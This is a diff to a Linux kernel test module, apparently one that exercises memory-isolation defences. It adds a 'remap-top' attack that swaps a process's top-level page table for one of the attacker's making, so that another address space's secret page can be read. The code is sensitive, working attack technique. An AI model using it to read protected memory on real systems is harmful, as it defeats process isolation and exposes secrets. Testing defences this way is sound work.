@@ -6,12 +6,15 @@
  *                             another process's
  *   remap table WHERE         the one above leads to a page table of the attacker's making,
  *                             which leads there
+ *   remap-top WHERE           the process's top-level page table is one of the attacker's
+ *                             making; the call sleeps until it is loaded
  *
  * WHERE is as in secrets.c.  The result is what the caller has at the page's address then.
  */
 #include <linux/err.h>
 #include <linux/gfp.h>
 #include <linux/mm.h>
+#include <linux/sched.h>
 #include <linux/string.h>
 #include <linux/uaccess.h>
 
@@ -79,7 +82,57 @@ static int attack_remap(int argc, char **argv, u64 *result)
 	return err;
 }
 
+/* What nobody maps anything at. */
+#define UNUSED_USER		(PGDIR_SIZE * 2)
+
+/* The first of the tables that lead from UNUSED_USER to a page. */
+static u64 *make_tables(u64 page)
+{
+	u64 entry = (page & PAGE_MASK) | _PAGE_TABLE, *table = NULL;
+	int level;
+
+	for (level = 0; level < 3; level++) {
+		table = (u64 *)__get_free_page(GFP_KERNEL | __GFP_ZERO);
+		if (!table)
+			return NULL;
+		table[0] = entry;
+		entry = __pa(table) | _PAGE_TABLE;
+	}
+	return table;
+}
+
+static int attack_remap_top(int argc, char **argv, u64 *result)
+{
+	unsigned int order = boot_cpu_has(X86_FEATURE_PTI), i;
+	pgd_t *old = current->mm->pgd, *new;
+	struct secret s;
+	u64 *tables;
+	int err;
+
+	if (argc != 2)
+		return -EINVAL;
+	err = locate_secret(&s, argv[1]);
+	if (err)
+		return err;
+	tables = make_tables(__pa(s.addr));
+	/* Where PTI looks for the user's half. */
+	new = (pgd_t *)__get_free_pages(GFP_KERNEL, order);
+	if (!tables || !new)
+		return -ENOMEM;
+	for (i = 0; i < PTRS_PER_PGD << order; i++)
+		new[i] = READ_ONCE(old[i]);
+	new[pgd_index(UNUSED_USER)] = __pgd(__pa(tables) | _PAGE_TABLE);
+
+	WRITE_ONCE(current->mm->pgd, new);
+	schedule_timeout_uninterruptible(HZ / 5);
+	err = get_user(*result, (u64 __user *)(UNUSED_USER + offset_in_page(s.addr)));
+	WRITE_ONCE(current->mm->pgd, old);
+	schedule_timeout_uninterruptible(HZ / 5);
+	return err;
+}
+
 const struct attack table_attacks[] = {
 	{ "remap",		attack_remap },
+	{ "remap-top",		attack_remap_top },
 	{ }
 };
